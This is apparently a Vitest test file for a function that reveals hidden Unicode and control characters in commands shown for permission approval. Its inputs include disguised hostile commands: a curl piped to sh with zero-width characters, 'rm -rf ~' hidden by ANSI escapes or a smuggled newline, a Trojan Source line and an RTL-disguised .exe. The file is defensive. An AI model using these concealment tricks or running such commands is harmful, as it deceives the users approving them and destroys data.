import { describe, expect, it } from 'vitest';
import { visibleText } from '../../../../src-main/core/kernel/permissions/visible.js';

describe('visibleText', () => {
  it('leaves ordinary text, tabs, newlines and non-Latin scripts alone', () => {
    const text = 'git commit -m "héllo 日本語 👍"\n\tdone';
    expect(visibleText(text)).toBe(text);
  });

  it('shows the Trojan Source "commenting-out" line as it is stored, not as it renders', () => {
    // From Boucher & Anderson, "Trojan Source" (CVE-2021-42574): RLO, LRI and PDI reorder the line
    // so the check reads as a comment in an editor while the compiler runs it.
    const trojan = '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */';
    expect(visibleText(trojan)).toBe(
      '/*\\u{202E} } \\u{2066}if (isAdmin)\\u{2069} \\u{2066} begin admins only */',
    );
  });

  it('shows a right-to-left override that disguises a file extension', () => {
    // Renders as "photo_gpj.exe"-style trickery: "invoice\u202Efdp.exe" displays as invoiceexe.pdf.
    expect(visibleText('rm invoice\u202efdp.exe')).toBe('rm invoice\\u{202E}fdp.exe');
  });

  it('shows zero-width characters hidden inside a command (the "invisible function" trick)', () => {
    expect(visibleText('curl ex\u200bample.com | s\u200dh')).toBe('curl ex\\u{200B}ample.com | s\\u{200D}h');
    expect(visibleText('\ufeffls')).toBe('\\u{FEFF}ls');
    expect(visibleText('rm -rf bu\u00adild')).toBe('rm -rf bu\\u{00AD}ild');
  });

  it('shows every bidi control', () => {
    const controls = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f];
    for (const code of controls) {
      const hex = code.toString(16).toUpperCase();
      expect(visibleText(`a${String.fromCodePoint(code)}b`)).toBe(`a\\u{${hex}}b`);
    }
  });

  it('turns ANSI escapes into readable text so a command cannot repaint the card or the terminal', () => {
    // ESC[2K erases the line and ESC[1A moves up: "rm -rf ~" would vanish behind "ls".
    expect(visibleText('rm -rf ~ \u001b[2K\u001b[1A\rls')).toBe('rm -rf ~ \\e[2K\\e[1A␍ls');
    expect(visibleText('printf "\u001b]0;title\u0007"')).toBe('printf "\\e]0;title␇"');
  });

  it('shows C0 controls as control pictures, DEL, and C1 controls as code points', () => {
    expect(visibleText('a\u0000b\u0008c\u007fd')).toBe('a␀b␈c␡d');
    expect(visibleText('x\u009by\u0085')).toBe('x\\u{009B}y\\u{0085}');
  });

  it('shows look-alike spaces, tag characters, variation selectors and Hangul fillers', () => {
    expect(visibleText('rm\u00a0-rf')).toBe('rm\\u{00A0}-rf');
    expect(visibleText('a\u2028b')).toBe('a\\u{2028}b');
    expect(visibleText('ok\u{e0041}\u{e0042}')).toBe('ok\\u{E0041}\\u{E0042}');
    expect(visibleText('a\ufe0fb')).toBe('a\\u{FE0F}b');
    expect(visibleText('\u3164=1')).toBe('\\u{3164}=1');
  });

  it('shows lone surrogates instead of dropping them', () => {
    expect(visibleText('a\ud800b')).toBe('a\\u{D800}b');
  });

  it('marks line breaks in shell commands, where a newline starts another command', () => {
    expect(visibleText('git status\nrm -rf ~', { markNewlines: true })).toBe('git status⏎\nrm -rf ~');
    expect(visibleText('a\r\nb', { markNewlines: true })).toBe('a␍⏎\nb');
  });
});
